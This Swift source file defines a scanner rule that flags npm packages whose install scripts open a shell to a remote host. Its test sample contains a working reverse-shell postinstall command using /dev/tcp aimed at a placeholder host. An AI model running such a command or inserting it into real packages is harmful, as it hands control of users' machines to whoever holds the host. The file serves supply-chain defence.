// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A command at install joins a shell to a connection.
package struct InstallOpensShell: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-opens-shell", kind: .content, title: "Install gives a shell to a host", severity: .critical, confidence: .high,
        status: .stable, revision: 1, group: "behaviour",
        rationale: "A shell joined to a connection lets someone at the other end type on the machine. Nothing else needs it.",
        knownFalseAlarms: ["None known at install time."],
        references: ["https://attack.mitre.org/techniques/T1059/004/"],
        fires: [
            RuleSample(
                "by /dev/tcp",
                .sample([
                    "package.json":
                        #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"bash -c \"bash -i >& /dev/tcp/c.test/4444 0>&1\""}}"#
                ]))
        ],
        staysSilent: [
            RuleSample(
                "looks whether a port is open",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"nc -z localhost 80"}}"#]))
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        guard let (act, shell) = facts.shellActs([.opensShell], most: 1).first else { return [] }
        return [
            card.finding(
                "Install gives a shell to \(Excerpt.clean(act.subject))", evidence: [facts.evidence(act, in: shell)],
                meaning: "Whoever holds that host can do on the machine what its user can.")
        ]
    }
}
